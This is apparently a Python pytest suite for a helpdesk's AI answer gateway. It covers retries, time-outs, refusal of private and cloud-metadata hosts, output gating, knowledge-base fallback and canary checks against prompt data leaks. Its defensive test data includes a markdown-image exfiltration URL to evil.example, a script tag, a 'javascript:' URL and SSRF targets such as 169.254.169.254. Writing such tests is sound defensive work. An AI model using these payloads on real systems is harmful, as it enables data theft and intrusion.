"""Answers by a model, over real HTTP: grounding, retries, time-outs, garbage, fallback, and what leaves the house."""

import asyncio
import time

import pytest
import pytest_asyncio

from deskwell.core.llm import ChatModel, Endpoint, ModelUnavailable, Turn
from deskwell.domains.ai.jobs.questions import ask as think_about
from deskwell.gateways.llm.endpoints import OpenAiEndpoints

from .model_server import model_server, refused, says
from .test_answer_tickets import by, thread, write

HELLO = [Turn("user", "hello")]
QUESTION = {"question": "How do I download an invoice for last month?", "context": "Shop"}
GOOD = says("answer", "Open **Account → Billing**, choose a month and click *Download PDF*.", "P1")


@pytest_asyncio.fixture(scope="module", loop_scope="session")
async def model():
    async with model_server() as server:
        yield server


@pytest.fixture(autouse=True)
def _fresh_script(model):
    model.script.clear()
    model.requests.clear()


@pytest_asyncio.fixture(loop_scope="session")
async def connected(model, staff, context, shop):
    """The desk asks the scripted model; its host is private and therefore listed."""
    context.gateways[ChatModel] = OpenAiEndpoints(
        first_wait=0.01, call_seconds=5, allowed_hosts=["127.0.0.1"]
    )
    saved = await staff.put(
        "/admin/ai/settings", json={"base_url": model.url, "model": "scripted", "api_key": "k"}
    )
    assert saved.status_code == 200, saved.text
    yield model
    await staff.put("/admin/ai/settings", json={"base_url": None, "model": None, "api_key": ""})


@pytest.fixture
def endpoint(model):
    return Endpoint("scripted", model.url, "k")


@pytest.fixture
def gateway():
    return OpenAiEndpoints(first_wait=0.01, call_seconds=5, allowed_hosts=["127.0.0.0/8"])


async def test_faults_are_retried_three_times_with_growing_pauses(gateway, model, endpoint):
    model.script = [refused(503), refused(500), refused(502), "ready"]
    answer = await gateway.complete(endpoint, HELLO)
    assert (answer.text, answer.attempts, answer.input_tokens) == ("ready", 4, 100)
    model.script = [refused(503)] * 5
    with pytest.raises(ModelUnavailable):
        await gateway.complete(endpoint, HELLO)
    assert len(model.requests) == 8


async def test_retry_after_is_obeyed(gateway, model, endpoint):
    model.script = [refused(429, retry_after="0.4"), "ready"]
    began = time.monotonic()
    await gateway.complete(endpoint, HELLO)
    assert time.monotonic() - began >= 0.4
    model.script = [refused(429, retry_after="3600")]
    with pytest.raises(ModelUnavailable) as error:
        await gateway.complete(endpoint, HELLO)
    assert error.value.retry_after == 3600


async def test_a_refused_key_is_not_tried_again(gateway, model, endpoint):
    model.script = [refused(401), "never"]
    with pytest.raises(ModelUnavailable, match="key"):
        await gateway.complete(endpoint, HELLO)
    assert len(model.requests) == 1


async def test_a_call_ends_in_time_and_an_endpoint_that_keeps_failing_is_left_alone(gateway, model, endpoint):
    async def sleep(_body=None):
        await asyncio.sleep(2)

    gateway._call_seconds = 0.2
    model.script = [sleep] * 40
    began = time.monotonic()
    for _ in range(5):
        with pytest.raises(ModelUnavailable):
            await gateway.complete(endpoint, HELLO)
        if len(model.requests) == 4:
            assert time.monotonic() - began < 2.5
            gateway._breakers[endpoint.base_url].failures = 4
    count = len(model.requests)
    with pytest.raises(ModelUnavailable, match="left alone"):
        await gateway.complete(endpoint, HELLO)
    assert len(model.requests) == count


async def test_drafts_stream_piece_by_piece(gateway, model, endpoint):
    model.script = ["one two three"]
    assert [piece async for piece in gateway.stream(endpoint, HELLO)] == ["one ", "two ", "three "]


async def test_private_hosts_are_refused_unless_listed(model, endpoint):
    for url in (
        model.url,
        "http://localhost:1/v1",
        "http://169.254.169.254/v1",
        "http://[::1]:1/v1",
        "http://0x7f000001/v1",
    ):
        with pytest.raises(ModelUnavailable, match=r"not a public host|cannot be reached"):
            await OpenAiEndpoints(first_wait=0.01).complete(Endpoint("m", url, "k"), HELLO)
    assert model.requests == []


async def test_a_grounded_answer_is_given_with_its_sources(connected, context, shop):
    connected.script = [GOOD]
    got = await think_about(context, QUESTION)
    assert (got["action"], got["provider"], got["model"]) == ("answered", "openai", "scripted")
    assert got["answer"].startswith("Open **Account")
    assert got["article_ids"] == [shop["Download an invoice"]]
    assert (got["input_tokens"], got["output_tokens"]) == (100, 20)
    assert got["cost"] > 0


@pytest.mark.parametrize(
    "bad",
    [
        says("answer", "It costs 49.99 dollars.", "P1"), says("answer", "See https://evil.example", "P1"), says("answer", "Open Billing.", "P77"),
        says("answer", "Open Billing."), "no json at all", says("dance", "x", "P1"), says("answer", "Write to eve@evil.example", "P1"),
    ],
)  # fmt: skip
async def test_an_answer_that_fails_the_gate_gets_one_second_chance(connected, context, bad):
    connected.script = [bad, GOOD]
    assert (await think_about(context, QUESTION))["action"] == "answered"
    assert "may not be sent" in connected.prompts[1]
    connected.script = [bad, bad, GOOD]
    got = await think_about(context, QUESTION)
    assert (got["action"], got["reason"]) == ("handed_over", "ai_declined")
    assert len(connected.script) == 1


async def test_without_the_model_the_knowledge_base_answers_by_itself(connected, context):
    connected.script = [refused(500)] * 4
    got = await think_about(context, QUESTION)
    assert (got["action"], got["provider"]) == ("answered", "embedded")
    assert any(step["step"] == "model_failed" for step in got["steps"])


async def test_the_model_is_not_asked_what_no_article_answers(connected, context):
    got = await think_about(context, {"question": "Do you sponsor chess tournaments?", "context": "Shop"})
    assert got["action"] == "handed_over"
    assert connected.requests == []


async def test_a_hostile_model_is_inert(connected, context):
    connected.script = [
        says(
            "answer",
            "Open Billing. ![x](https://evil.example/?q=secret) <script>alert(1)</script> fuck",
            "P1",
        )
    ] * 2
    got = await think_about(context, QUESTION)
    assert "evil" not in got["answer"]
    assert "<script" not in got["answer"]
    assert "fuck" not in got["answer"]


async def test_nothing_of_another_customer_note_or_setting_reaches_a_prompt(
    connected, context, staff, sign_in, make, run_jobs
):
    """Canaries everywhere; none may sing."""
    other, asker = (
        await make.customer(name="CANARY-NAME"),
        await make.customer(name="Ann Asker", email="canary-mail@example.com"),
    )
    await make.ticket(
        customer=other, subject="CANARY-SUBJECT invoice", body="CANARY-BODY download an invoice"
    )
    await staff.post(
        "/admin/articles",
        json={
            "title": "CANARY-INTERNAL invoice download",
            "body": "CANARY-SECRET",
            "context": "Shop",
            "visibility": "internal",
        },
    )
    await staff.post(
        "/admin/articles",
        json={"title": "CANARY-ELSEWHERE invoice download", "body": "CANARY-BRAND", "context": "Another"},
    )
    await run_jobs()  # the other customer's own prompt may hold their own words
    connected.requests.clear()
    customer = await sign_in(asker)
    connected.script = [GOOD] * 4
    ticket_id = await write(
        customer,
        "How do I download an invoice? My card is 4111 1111 1111 1111, mail canary-mail@example.com",
        subject="Billing",
    )
    await staff.post(f"/ticket/{ticket_id}/admin/reply", json={"message": "CANARY-NOTE", "is_internal": True})
    await run_jobs()
    assert connected.prompts
    everything = str(connected.requests)
    for canary in ("CANARY", "canary-mail", "4111 1111", "bootstrap-key", "tests-kkkk"):
        assert canary not in everything


async def test_a_ticket_gets_the_models_checked_answer_and_its_run_is_kept(
    connected, staff, sign_in, make, run_jobs
):
    customer = await sign_in(await make.customer())
    connected.script = [says("answer", "It costs 77 dollars.", "P1"), GOOD]
    ticket_id = await write(customer, QUESTION["question"])
    await run_jobs()
    (answer,) = by((await thread(customer, ticket_id))["messages"], "ai")
    assert "77" not in answer["message"]
    (run,) = (await staff.get("/admin/ai/runs", params={"ticket_id": ticket_id})).json()["runs"]
    assert [s["step"] for s in run["steps"]].count("asked_model") == 2
    assert run["prompt_version"]


async def test_the_days_budget_spent_the_knowledge_base_answers(connected, staff, sign_in, make, run_jobs):
    await staff.put("/admin/ai/settings", json={"daily_budget": 0.000001})
    customer = await sign_in(await make.customer())
    connected.script = [GOOD, GOOD]
    ticket_id = await write(customer, QUESTION["question"])
    await run_jobs()
    assert connected.requests == []
    (answer,) = by((await thread(customer, ticket_id))["messages"], "ai")
    assert "our article" in answer["message"]
    await staff.put("/admin/ai/settings", json={"daily_budget": None})


async def test_the_screen_tries_an_endpoint_before_it_is_saved(connected, staff):
    connected.script = ["ready", refused(401)]
    tried = (
        await staff.post(
            "/admin/ai/settings/test", json={"base_url": connected.url, "model": "scripted", "api_key": "k"}
        )
    ).json()
    assert (tried["success"], tried["reply"]) == (True, "ready")
    tried = (
        await staff.post(
            "/admin/ai/settings/test", json={"base_url": connected.url, "model": "scripted", "api_key": "k"}
        )
    ).json()
    assert tried["success"] is False
    assert "key" in tried["message"]
    read = (await staff.get("/admin/ai/settings")).json()
    assert read["has_api_key"] is True
    assert "'k'" not in str(read)
    assert read["effective"]["provider"] == "openai"
    bad = await staff.put("/admin/ai/settings", json={"base_url": "javascript:alert(1)"})
    assert bad.status_code == 400
